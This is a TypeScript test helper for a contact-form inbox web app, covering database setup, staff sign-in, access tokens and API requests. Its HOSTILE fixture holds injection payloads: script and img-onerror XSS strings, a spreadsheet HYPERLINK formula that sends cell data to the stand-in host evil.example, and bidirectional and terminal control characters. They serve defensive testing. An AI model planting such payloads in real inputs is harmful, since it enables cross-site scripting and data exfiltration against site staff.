// The inbox through the real app (app.inject, loopback Host) on SQLite or PostgreSQL: staff accounts with
// real factors, inquiries stored through a second store on the same database (another replica, as the
// contact form would store them, hostile text included: the store takes what it is given), tokens.
import { randomUUID } from 'node:crypto'
import type { FastifyInstance } from 'fastify'
import type { Config } from '../../../server/config'
import { openDatabase } from '../../../server/database'
import { newAccessToken } from '../../../server/staff/access-tokens'
import type { Role } from '../../../server/staff/types'
import { emptyContactValues, type ContactValues } from '../../../shared/pages/contact/values'
import { build } from '../../helper'
import { tempDataDir } from '../contact/helper'
import { addAccount, clock, LOCAL, signIn, type Clock } from '../staff/web-helper'
import { pgStores, sqliteStores, type SiteStores } from '../stores'

type Teardown = { teardown: (fn: () => unknown) => void }

/** Visitor text meant to do harm: markup, a formula, a bidirectional override, controls, 10,000 characters. */
export const HOSTILE = {
  name: '<script>alert("x")</script>山田',
  company: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  phone: '+81 90-1234-5678',
  message: `<img src=x onerror=alert(1)>\n@SUM(A1:A9)\n\u202Eexe.txt\u202C ESC\u001b[31m BEL\u0007\n${'長'.repeat(10_000)}`,
}

/** An inquiry's values: a complete valid one unless overridden. */
export function values(overrides: Partial<ContactValues> = {}): ContactValues {
  const email = overrides.email ?? 'taro@example.com'
  return {
    ...emptyContactValues(),
    name: '山田 太郎',
    nameKana: 'ヤマダタロウ',
    company: '株式会社テスト',
    email,
    emailConfirm: email,
    phone: '03-1234-5678',
    inquiryType: 'estimate',
    message: '外壁の塗装について相談したいです。',
    privacyConsent: true,
    ...overrides,
  }
}

/**
 * The app on its own database (SQLite in a fresh DATA_DIR, or `databaseUrl`), the staff clock `time`,
 * an admin signed in, and a store of its own on the same data for seeding. `overrides`: more config.
 */
export async function inboxApp(t: Teardown, time: Clock = clock(), databaseUrl = '', overrides: Partial<Config> = {}) {
  const dataDir = tempDataDir(t)
  const app = await build(t, { dataDir, databaseUrl, ...overrides }, { staff: { now: time.now } })
  const seedStore: SiteStores = databaseUrl ? await pgStores(databaseUrl, { poolSize: 2 }) : sqliteStores(openDatabase(dataDir))
  t.teardown(() => seedStore.close())
  const adminAccount = await addAccount(app, time, 'admin')
  const admin = await signIn(app, time, adminAccount)
  /** Stores an inquiry received at `at` (ms); its reference. */
  const seed = async (v: Partial<ContactValues> = {}, at = time.now(), locale: 'ja' | 'en' = 'ja') =>
    (await seedStore.insert({ values: values(v), locale, token: null, now: new Date(at) })).id
  /** Another account of `role`, signed in (each sign-in its own TOTP step). */
  const member = async (role: Role) => {
    time.advance(30_000)
    const who = await addAccount(app, time, role)
    return { ...who, session: await signIn(app, time, who) }
  }
  return { app, dataDir, admin, adminAccount, seed, seedStore, member }
}

/** A personal access token of `role` made by `by` (an account id): its secret. */
export async function tokenFor(app: FastifyInstance, by: string, role: Role, at: number): Promise<string> {
  const { secret, hash } = newAccessToken()
  const audit = { at, accountId: by, address: 'test', action: 'token.create', target: 'token', outcome: 'ok' as const }
  await app.staffStore.addAccessToken({ id: randomUUID(), tokenHash: hash, name: `${role} token`, role, createdBy: by, createdAt: at, expiresAt: at + 86_400_000, revokedAt: null, lastUsedAt: null }, audit)
  return secret
}

/** A request to the API with a token (undefined: none). */
export function api(app: FastifyInstance, method: 'GET' | 'PATCH' | 'POST' | 'DELETE' | 'PUT', url: string, secret?: string, body?: unknown, headers: Record<string, string> = {}) {
  const json = body === undefined ? {} : { 'content-type': 'application/json' }
  return app.inject({
    method,
    url,
    headers: { ...LOCAL, ...json, ...(secret ? { authorization: `Bearer ${secret}` } : {}), ...headers },
    ...(body === undefined ? {} : { payload: typeof body === 'string' ? body : JSON.stringify(body) }),
  })
}
